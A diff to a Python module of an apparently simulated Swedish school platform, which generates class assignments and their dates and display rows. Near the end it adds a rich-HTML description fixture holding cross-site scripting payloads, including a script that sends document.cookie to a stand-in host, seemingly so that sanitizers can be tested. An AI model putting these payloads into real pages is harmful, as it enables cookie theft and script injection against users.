@@ -1,26 +1,27 @@
-"""Assignments of a class: three begin in every week of term, and last for a week or two.
+"""Assignments of a class: three begin in every week of term and last for a week or two.
 
-The id of an assignment says everything about it: the number of its class, the week in which it
-begins (counted from `_EPOCH`), and its index in that week. The first is a test, the second is
-handed in, the third is homework of which little is known.
+The id of an assignment is built from the number of its class, the week in which it begins
+(counted from `_EPOCH`), and its index in that week. The first is a test, the second is handed
+in, the third is homework with few details.
 """
 
 from dataclasses import dataclass
 from datetime import date, datetime, time, timedelta
 from typing import Any
 
-from upstream.simulator import swedish_dates
+from upstream.simulator import dates
 from upstream.simulator.classes import SchoolClass
-from upstream.simulator.rooms import room_id, subject_of
-from upstream.simulator.timetable import EMPTY_WEEKS
+from upstream.simulator.dates import EMPTY_WEEKS
+from upstream.simulator.state import State
+from upstream.simulator.subject_rooms.data import room_id, subject_of
 
 _EPOCH = date(2015, 1, 5)
 _WEEKS = 10_000
 PER_WEEK = 3
 _ROOMS = 10
-"""Assignments belong to the first rooms only."""
+"""Only the first rooms have assignments."""
 _WEEKS_BACK, _WEEKS_AHEAD = 14, 2
-"""What the room of a subject still shows, and what is announced already."""
+"""How many past and future weeks a subject room shows."""
 _KINDS = ("Prov", "Inlämningsuppgift", "Läxa")
 _TITLES = (
     ("Prov kap {n}", "Muntligt förhör – del {n}", "Läxförhör {n} & repetition"),
@@ -76,13 +77,13 @@ class Assignment:
 
     @property
     def teaser(self) -> str:
-        """`subTitle`: usually dates, kind, subject; the other forms are rarer."""
+        """`subTitle`: usually dates, kind and subject."""
         if self.index == 2 and self.week % 5 == 0:
             return ""
         if self.index == 2 and self.week % 2:
-            return f"Hand-in due {swedish_dates.short(self.due)}, {self.kind}, {self.subject}"
-        dates = f"{swedish_dates.short(self.start)} - {swedish_dates.short(self.due)}"
-        return f"{dates}, {self.kind}, {self.subject}"
+            return f"Hand-in due {dates.short(self.due)}, {self.kind}, {self.subject}"
+        span = f"{dates.short(self.start)} - {dates.short(self.due)}"
+        return f"{span}, {self.kind}, {self.subject}"
 
     def status(self, today: date) -> str:
         if self.start.date() > today:
@@ -116,7 +117,7 @@ class Assignment:
             "read": self.is_over(today),
             "submissionStatus": self.handed_in(today),
             "resultReportStatus": self.reported(today),
-            "sortDate": swedish_dates.row(self.due),
+            "sortDate": dates.row(self.due),
         }
 
     def grid_row(self, today: date) -> dict[str, Any]:
@@ -128,9 +129,9 @@ class Assignment:
             "assignmentType": self.kind,
             "subjects": [{"name": self.subject, "color": "#9fe2a0"}],
             "teacher": _TEACHER,
-            "startDate": swedish_dates.row(self.start),
-            "endDate": swedish_dates.row(self.due),
-            "publishDate": swedish_dates.row(self.published),
+            "startDate": dates.row(self.start),
+            "endDate": dates.row(self.due),
+            "publishDate": dates.row(self.published),
             "submissionDate": "",
             "submissionStatus": self.handed_in(today),
             "resultReportStatus": self.reported(today),
@@ -140,12 +141,12 @@ class Assignment:
 
 
 def week_number(monday: date) -> int:
-    """Weeks since the first one that anybody counts."""
+    """Weeks since `_EPOCH`."""
     return (monday - _EPOCH).days // 7
 
 
 def beginning_in(school_class: SchoolClass, week: int) -> list[Assignment]:
-    """Those that begin in this week; none in the middle of the summer."""
+    """The assignments that begin in this week; none in the middle of the summer."""
     monday = _EPOCH + timedelta(weeks=week)
     if not 0 <= week < _WEEKS or monday.isocalendar().week in EMPTY_WEEKS:
         return []
@@ -153,7 +154,7 @@ def beginning_in(school_class: SchoolClass, week: int) -> list[Assignment]:
 
 
 def of_week(school_class: SchoolClass, monday: date) -> list[Assignment]:
-    """Every assignment of which some day is in this week, whenever it began."""
+    """Every assignment that overlaps this week."""
     this = week_number(monday)
     return [
         assignment
@@ -164,7 +165,7 @@ def of_week(school_class: SchoolClass, monday: date) -> list[Assignment]:
 
 
 def of_room(school_class: SchoolClass, index: int, today: date) -> list[Assignment]:
-    """What a room shows: the last weeks and the next ones, oldest first."""
+    """The assignments that a room shows: of the last weeks and the next ones, oldest first."""
     this = week_number(today)
     return [
         assignment
@@ -175,7 +176,7 @@ def of_room(school_class: SchoolClass, index: int, today: date) -> list[Assignme
 
 
 def class_number(assignment_id: int) -> int:
-    """Whose it is: the number of the class on which the id is built."""
+    """The number of the class that an assignment with this id belongs to."""
     return assignment_id // (_WEEKS * 10)
 
 
@@ -186,3 +187,31 @@ def find(school_class: SchoolClass, assignment_id: int) -> Assignment | None:
         if assignment.index == index and assignment.id == assignment_id:
             return assignment
     return None
+
+
+PLAIN = "L&auml;s och svara p&aring; fr&aring;gorna."
+
+# HTML that an editor produces, and attacks that have to be removed.
+RICH = """<p class="tinymce-p">R&auml;kna sid 84&ndash;91.&nbsp;</p>
+<ul><li>Ta med linjal</li><li><strong>Inte</strong> mobil</li></ul>
+<table class="table"><tbody><tr><td>E</td><td>10&nbsp;p</td></tr></tbody></table>
+<p><a href="right_student_planning.jsp?requestid=7&type=1">Planering</a>
+<a href="/bjorkdalen/jsp/student/right_student_library.jsp">Bibliotek</a>
+<a href="https://larande.example/ma?kap=4&amp;del=2" target="_blank">L&auml;nk</a>
+<a href="JaVa&#9;ScRiPt:alert(document.cookie)">Facit</a>
+<a href=" javascript&colon;alert(1)">Mer</a>
+<a href="data:text/html,<script>alert(1)</script>">Data</a></p>
+<img src="showFileImage.jsp?fileid=7741&type=2" alt="Figur" onerror="alert(1)">
+<img src=x onerror=alert(1)//>
+<script>document.location="https://elsewhere.example/?"+document.cookie</script>
+<svg><script>alert(1)</script></svg>
+<iframe src="https://elsewhere.example/"></iframe>
+<p style="background:url(javascript:alert(1))" onclick="alert(1)">Lycka till &#128077;!</p>
+<meta http-equiv="refresh" content="0;url=https://elsewhere.example/"><p>Ej st&auml;ngd"""
+
+
+def description_of(assignment: Assignment, state: State) -> str | None:
+    """By default rich for a test, plain for a submission, None for homework."""
+    forms = {"script": RICH, "plain": PLAIN, "null": None}
+    variant = state.settings.descriptions
+    return forms[("script", "plain", "null")[assignment.index] if variant == "mixed" else variant]
